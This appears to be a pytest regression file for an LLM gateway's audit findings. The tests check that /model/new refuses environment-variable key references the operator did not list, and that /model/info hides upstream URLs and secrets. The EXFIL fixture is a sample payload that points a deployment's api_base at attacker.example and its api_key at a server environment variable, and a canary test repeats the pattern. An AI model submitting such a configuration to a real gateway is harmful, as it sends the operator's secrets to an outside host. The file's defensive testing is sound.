"""The outside audit's findings on deployments (issue 16: items 7 and 8), each reproduced as the audit
described it: /model/new may not point a deployment's key at a process variable the operator did not
list (16.7), and /model/info shows a user their models without upstream details or secrets (16.8).

Every test here failed on the code before accounts/policy and passes after; test_audit_authorization.py
has the findings on people and keys. The world is tests/accounts/api/conftest.py's.
"""
from __future__ import annotations

import json
import time
import urllib.request

import pytest

from gateway.models import ModelDeployment
from tests.accounts.api.conftest import Api, error_of
from tests.conftest import chat_status, start_gateway


# --------------------------------------------------------------------------- 16.7 env references in /model/new

EXFIL = {"model_name": "exfil", "litellm_params": {"model": "openai/x", "api_base": "http://attacker.example/v1",
                                                   "api_key": "os.environ/LLMUR_CONFIGURATION"}}
# LiteLLM's documented /model/new example (docs/proxy/model_management.md).
LITELLM_EXAMPLE = {"model_name": "azure-gpt-turbo", "litellm_params": {
    "model": "azure/gpt-3.5-turbo", "api_key": "os.environ/AZURE_API_KEY", "api_base": "my-azure-api-base"}}


def test_16_7_model_new_refuses_a_variable_the_operator_did_not_list(admin_api):
    response = admin_api.post("/model/new", EXFIL)
    assert response.status_code == 400
    error = error_of(response)
    assert error["param"] == "litellm_params.api_key"
    assert "general_settings.allowed_env_references" in error["message"] and "LLMUR_CONFIGURATION" in error["message"]
    assert not ModelDeployment.objects.filter(model_name="exfil").exists()


def test_16_7_litellms_documented_model_new_example_works_where_allowed(admin_api, settings, monkeypatch):
    assert admin_api.post("/model/new", LITELLM_EXAMPLE).status_code == 400
    monkeypatch.setitem(settings.LLMUR.config.general_settings, "allowed_env_references", ["AZURE_API_KEY"])
    response = admin_api.post("/model/new", LITELLM_EXAMPLE)
    assert response.status_code == 200, response.content
    stored = ModelDeployment.objects.get(model_name="azure-gpt-turbo")
    assert stored.litellm_params["api_key"] == "os.environ/AZURE_API_KEY"
    assert admin_api.post("/model/new", EXFIL).status_code == 400


def test_16_7_a_literal_key_is_stored_encrypted(admin_api):
    response = admin_api.post("/model/new", {"model_name": "lit", "litellm_params": {
        "model": "openai/x", "api_key": "sk-literal-provider-key"}})
    assert response.status_code == 200
    stored = ModelDeployment.objects.get(model_name="lit").litellm_params["api_key"]
    assert set(stored) == {"encrypted"} and "sk-literal-provider-key" not in json.dumps(stored)


@pytest.fixture(scope="module")
def env_gateway(django_db_setup, django_db_blocker, fake_provider):
    """A server whose process holds a canary variable the operator did not allow, and one it did."""
    from tests.conftest import TEST_MASTER_KEY

    with django_db_blocker.unblock():
        ModelDeployment.objects.filter(model_name="legacy-exfil").delete()
        # Stored before the rule existed: the registry must not resolve it either.
        ModelDeployment.objects.create(deployment_id="legacy-exfil-1", model_name="legacy-exfil", provider="openai",
                                       source="db", litellm_params={
                                           "model": "openai/mock-gpt", "api_base": f"{fake_provider.url}/v1",
                                           "api_key": "os.environ/LLMUR_AUDIT_CANARY"})
        server = start_gateway({"general_settings": {"allowed_env_references": ["LLMUR_AUDIT_ALLOWED"]}},
                               env={"LLMUR_AUDIT_CANARY": "canary-secret-value-1",
                                    "LLMUR_AUDIT_ALLOWED": "allowed-provider-key-1"})
    yield server, TEST_MASTER_KEY
    server.stop()
    with django_db_blocker.unblock():
        ModelDeployment.objects.filter(model_name__in=["legacy-exfil", "exfil", "allowed"]).delete()


def _post(url: str, key: str, path: str, body: dict) -> tuple[int, dict]:
    request = urllib.request.Request(f"{url}{path}", data=json.dumps(body).encode(), method="POST",
                                     headers={"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            return response.status, json.load(response)
    except urllib.error.HTTPError as error:
        return error.code, json.load(error)


def _wait_for_model(url: str, key: str, model: str) -> int:
    deadline = time.monotonic() + 20
    status = chat_status(url, key, model)
    while status == 404 and time.monotonic() < deadline:
        time.sleep(0.1)
        status = chat_status(url, key, model)
    return status


@pytest.mark.django_db(transaction=True)
def test_16_7_a_deployment_cannot_send_a_process_variable_to_a_host(env_gateway, fake_provider):
    server, master = env_gateway
    fake_provider.reset()
    status, body = _post(server.url, master, "/model/new", {"model_name": "exfil", "litellm_params": {
        "model": "openai/mock-gpt", "api_base": f"{fake_provider.url}/v1", "api_key": "os.environ/LLMUR_AUDIT_CANARY"}})
    assert status == 400 and "allowed_env_references" in body["error"]["message"]
    assert chat_status(server.url, master, "exfil") == 404
    # A row stored before the rule answers, but without the variable's value.
    chat_status(server.url, master, "legacy-exfil")
    assert not any("canary-secret-value-1" in seen for seen in fake_provider.stats()["credentials_seen"])
    assert "legacy-exfil-1" in server.output() and "allowed_env_references" in server.output()


@pytest.mark.django_db(transaction=True)
def test_16_7_an_allowed_variable_reaches_the_provider(env_gateway, fake_provider):
    server, master = env_gateway
    fake_provider.reset()
    status, _ = _post(server.url, master, "/model/new", {"model_name": "allowed", "litellm_params": {
        "model": "openai/mock-gpt", "api_base": f"{fake_provider.url}/v1",
        "api_key": "os.environ/LLMUR_AUDIT_ALLOWED"}})
    assert status == 200
    assert _wait_for_model(server.url, master, "allowed") == 200
    assert "Bearer allowed-provider-key-1" in fake_provider.stats()["credentials_seen"]


# --------------------------------------------------------------------------- 16.8 /model/info for everyone

@pytest.fixture
def deployments(admin_api):
    for name in ("m-allowed", "m-other"):
        response = admin_api.post("/model/new", {"model_name": name, "litellm_params": {
            "model": f"openai/{name}", "api_base": f"https://{name}.internal.example/v1",
            "api_key": "sk-upstream-secret", "extra_headers": {"X-Upstream-Token": f"hdr-secret-{name}"}}})
        assert response.status_code == 200


def test_16_8_model_info_shows_a_user_only_their_models_without_upstream_details(world, deployments, admin_api):
    key = admin_api.post("/key/generate", {"user_id": "member", "models": ["m-allowed"]}).json()["key"]
    response = Api(key).get("/model/info")
    assert response.status_code == 200
    rows = response.json()["data"]
    assert [r["model_name"] for r in rows] == ["m-allowed"]
    assert rows[0]["litellm_params"] == {"model": "openai/m-allowed"}
    text = response.content.decode()
    for leak in ("internal.example", "hdr-secret", "X-Upstream-Token", "api_base", "api_key", "encrypted"):
        assert leak not in text, leak


def test_16_8_admins_see_upstream_details_but_never_secrets(deployments, admin_api):
    rows = {r["model_name"]: r for r in admin_api.get("/model/info").json()["data"]}
    params = rows["m-allowed"]["litellm_params"]
    assert params["api_base"] == "https://m-allowed.internal.example/v1"
    assert params["extra_headers"] == {"X-Upstream-Token": "(hidden)"} and params["api_key"] == "(encrypted)"
    text = json.dumps(rows)
    assert "hdr-secret" not in text and "sk-upstream-secret" not in text
